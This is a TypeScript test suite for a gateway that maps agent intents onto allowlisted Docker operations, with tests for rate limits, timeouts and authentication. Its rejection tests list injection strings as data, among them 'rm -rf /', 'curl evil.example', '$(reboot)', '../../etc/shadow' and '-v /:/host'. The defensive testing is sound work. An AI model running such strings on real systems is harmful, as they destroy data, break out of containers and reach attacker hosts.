import { MAX_INTENT_BYTES } from '@atb/contracts';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { commandRequest, type GatewayFixture, startGateway } from './support/gateway-fixture.js';

describe('POST /execute-docker-command', () => {
  let gateway: GatewayFixture;
  beforeAll(async () => {
    gateway = await startGateway({ GATEWAY_RESTART_LIMIT: '1000' });
  });
  afterAll(async () => gateway.close());
  afterEach(() => {
    gateway.runtime.calls.length = 0;
  });

  it('restarts the target and answers in the contract shape (request_id, timestamp, overall_status, execution_details)', async () => {
    const response = await gateway.execute(commandRequest('restart the service'));
    expect(response.statusCode).toBe(200);
    expect(response.body).toMatchObject({
      overall_status: 'success',
      execution_details: { command: 'docker restart market-predictor', execution_result: 'restarted market-predictor' },
      plan: { operation: 'restart', target: 'market-predictor', params: {} },
    });
    expect(response.body.request_id).toMatch(/\S{8,}/);
    expect(Date.parse(response.body.timestamp_processed_utc)).not.toBeNaN();
    expect(response.body.execution_details.execution_time_ms).toBeGreaterThanOrEqual(0);
    expect(gateway.runtime.mutations()).toEqual([{ method: 'restart', name: 'market-predictor' }]);
  });

  it.each([
    ['show the last 200 log lines', 'logs', 'docker logs --tail 200 market-predictor'],
    ['inspect', 'inspect', 'docker inspect market-predictor'],
    ['resource usage', 'stats', 'docker stats --no-stream market-predictor'],
    ['list containers', 'list', 'docker ps --all'],
  ])('%j runs %s', async (intent, method, command) => {
    const response = await gateway.execute(commandRequest(intent));
    expect(response.body).toMatchObject({ overall_status: 'success', execution_details: { command } });
    expect(gateway.runtime.calls.map((call) => call.method)).toEqual([method]);
  });

  it('a dry run returns the plan and executes nothing', async () => {
    const response = await gateway.execute({ ...commandRequest('restart market-predictor'), dry_run: true });
    expect(response.body).toMatchObject({
      overall_status: 'success',
      dry_run: true,
      plan: { operation: 'restart', target: 'market-predictor' },
      execution_details: { command: 'docker restart market-predictor', execution_time_ms: 0 },
    });
    expect(gateway.runtime.calls).toEqual([]);
  });

  it('accepts the seed’s string context and a structured one', async () => {
    const structured = await gateway.execute(
      commandRequest('stats', { action_request: { intent: 'stats', context: { alert: 'HighMemory' } } }),
    );
    expect(structured.body.overall_status).toBe('success');
  });

  describe('hostile and bad input: rejected with a reason, nothing executed', () => {
    const hostileIntents = [
      'restart the service; rm -rf /',
      'restart && curl evil.example',
      'show logs | sh',
      'restart $(reboot)',
      'restart `reboot`',
      'restart the service\nexec into it',
      'show logs of ../../etc/shadow',
      'restart with --privileged',
      'restart -v /:/host',
      'run a new container',
      'exec into it',
      'remove the container',
      'rm it',
      'prune stopped containers',
      'make it faster',
      'restart and show logs',
    ];
    it.each(hostileIntents)('intent %j', async (intent) => {
      const response = await gateway.execute(commandRequest(intent));
      expect(response.statusCode).toBe(200);
      expect(response.body.overall_status).toBe('rejected');
      expect(response.body.reason).toEqual(expect.any(String));
      expect(response.body.reason_code).toMatch(/forbidden_intent|unrecognised_intent|ambiguous_intent/);
      expect(response.body.accepted_examples).toContain('restart the service');
      expect(gateway.runtime.calls).toEqual([]);
    });

    it.each([
      ['market-predictor; rm -rf /', 'invalid_target_name'],
      ['market-predictor && reboot', 'invalid_target_name'],
      ['a|b', 'invalid_target_name'],
      ['$(id)', 'invalid_target_name'],
      ['`id`', 'invalid_target_name'],
      ['market-predictor\n', 'invalid_target_name'],
      ['../market-predictor', 'invalid_target_name'],
      ['mаrket-predictor', 'invalid_target_name'],
      ['market predictor', 'invalid_target_name'],
      ['postgres', 'not_allowlisted'],
    ])('target name %j → %s', async (name, code) => {
      const response = await gateway.execute(commandRequest('restart it', { target_resource: { name } }));
      expect(response.body).toMatchObject({ overall_status: 'rejected', reason_code: code });
      expect(gateway.runtime.calls).toEqual([]);
    });

    it('an operation the source may not request', async () => {
      const response = await gateway.execute(commandRequest('stop it'));
      expect(response.body).toMatchObject({ overall_status: 'rejected', reason_code: 'operation_not_allowed' });
      expect(response.body.reason).toContain('devops-agent');
      const unknown = await gateway.execute(commandRequest('restart it', { source_id: 'intruder' }));
      expect(unknown.body).toMatchObject({ overall_status: 'rejected', reason_code: 'operation_not_allowed' });
      expect(gateway.runtime.calls).toEqual([]);
    });

    it('more log lines than the bound', async () => {
      const response = await gateway.execute(commandRequest('show the last 9000 log lines'));
      expect(response.body).toMatchObject({ overall_status: 'rejected', reason_code: 'invalid_parameter' });
      expect(gateway.runtime.calls).toEqual([]);
    });

    it(`an intent over ${MAX_INTENT_BYTES} bytes → 413 naming the field`, async () => {
      const response = await gateway.execute(commandRequest(`restart ${'x'.repeat(MAX_INTENT_BYTES)}`));
      expect(response.statusCode).toBe(413);
      expect(response.body.field).toBe('body.action_request.intent');
      expect(gateway.runtime.calls).toEqual([]);
    });

    it.each([
      ['a missing source_id', { target_resource: { name: 'market-predictor' }, action_request: { intent: 'stats' } }, 'body.source_id'],
      ['a missing target', { source_id: 'devops-agent', action_request: { intent: 'stats' } }, 'body.target_resource'],
      ['a numeric intent', commandRequest('x', { action_request: { intent: 42 } }), 'body.action_request.intent'],
      ['an unknown priority', commandRequest('x', { action_request: { intent: 'stats', priority: 'URGENT' } }), 'body.action_request.priority'],
      ['a string dry_run', commandRequest('stats', { dry_run: 'yes' }), 'body.dry_run'],
      ['an empty intent', commandRequest(''), 'body.action_request.intent'],
    ])('%s → 422 naming the field', async (_what, body, field) => {
      const response = await gateway.execute(body);
      expect(response.statusCode).toBe(422);
      expect(response.body.field).toBe(field);
      expect(gateway.runtime.calls).toEqual([]);
    });

    it.each([
      ['no token', {}],
      ['a wrong token', { authorization: 'Bearer wrong-token-wrong-token' }],
      ['another scheme', { authorization: 'Basic dXNlcjpwYXNz' }],
    ])('%s → 401', async (_what, headers) => {
      const response = await gateway.execute(commandRequest('restart the service'), headers as Record<string, string>);
      expect(response.statusCode).toBe(401);
      expect(gateway.runtime.calls).toEqual([]);
    });
  });
});

describe('rate limit and one mutating operation per target', () => {
  let gateway: GatewayFixture;
  beforeAll(async () => {
    gateway = await startGateway();
  });
  afterAll(async () => gateway.close());

  it('refuses a 4th restart inside the window, then survives a gateway restart', async () => {
    for (let index = 0; index < 3; index++) {
      expect((await gateway.execute(commandRequest('restart the service'))).body.overall_status).toBe('success');
    }
    const fourth = await gateway.execute(commandRequest('restart the service'));
    expect(fourth.body).toMatchObject({ overall_status: 'rejected', reason_code: 'rate_limited' });
    expect(fourth.body.reason).toMatch(/limit 3/);
    expect(gateway.runtime.mutations()).toHaveLength(3);

    // The windows live in the database: restarting the gateway resets nothing.
    const again = await startGateway(
      { AI_COMMAND_GATEWAY_TOKEN: gateway.token },
      { dataDirectory: gateway.dataDirectory, keepData: true },
    );
    try {
      const fifth = await again.execute(commandRequest('restart the service'));
      expect(fifth.body).toMatchObject({ overall_status: 'rejected', reason_code: 'rate_limited' });
      expect(again.runtime.mutations()).toEqual([]);
    } finally {
      await again.close();
    }
  });

  it('refuses a second mutating operation while one runs', async () => {
    gateway.runtime.delayMs = 300;
    const [first, second] = await Promise.all([
      gateway.execute(commandRequest('start it')),
      gateway.execute(commandRequest('start it')),
    ]);
    gateway.runtime.delayMs = 0;
    expect([first.body.overall_status, second.body.overall_status].sort()).toEqual(['rejected', 'success']);
    expect([first.body.reason_code, second.body.reason_code]).toContain('target_busy');
  });
});

describe('timeouts and engine failures', () => {
  let gateway: GatewayFixture;
  beforeAll(async () => {
    gateway = await startGateway({ AI_COMMAND_GATEWAY_TIMEOUT: '1', GATEWAY_RESTART_LIMIT: '1000' });
  });
  afterAll(async () => gateway.close());

  it('a hung operation → timeout, and the target is free again afterwards', async () => {
    gateway.runtime.hang.add('restart');
    const response = await gateway.execute(commandRequest('restart the service'));
    gateway.runtime.hang.delete('restart');
    expect(response.body).toMatchObject({ overall_status: 'timeout' });
    expect(response.body.execution_details.execution_time_ms).toBeGreaterThanOrEqual(900);
    const next = await gateway.execute(commandRequest('restart the service'));
    expect(next.body.overall_status).toBe('success');
  });

  it('an engine error → error with a clear message; the gateway stays up', async () => {
    gateway.runtime.fail.set('inspect', Object.assign(new Error('connect ECONNREFUSED /run/podman.sock'), { code: 'ECONNREFUSED' }));
    const response = await gateway.execute(commandRequest('inspect'));
    gateway.runtime.fail.delete('inspect');
    expect(response.body).toMatchObject({ overall_status: 'error' });
    expect(response.body.execution_details.execution_result).toMatch(/engine is unreachable/);
    const health = await gateway.service.app.inject({ method: 'GET', url: '/health' });
    expect(health.statusCode).toBe(200);
    expect((await gateway.execute(commandRequest('inspect'))).body.overall_status).toBe('success');
  });

  it('a container that does not exist → error naming it', async () => {
    const response = await gateway.execute(
      commandRequest('inspect', { target_resource: { name: 'ghost' } }),
    );
    expect(response.body.overall_status).toBe('rejected');
    const allowlisted = await startGateway({ GATEWAY_ALLOWED_TARGETS: 'ghost' });
    try {
      const missing = await allowlisted.execute(commandRequest('inspect', { target_resource: { name: 'ghost' } }));
      expect(missing.body).toMatchObject({ overall_status: 'error' });
      expect(missing.body.execution_details.execution_result).toContain('"ghost"');
    } finally {
      await allowlisted.close();
    }
  });
});
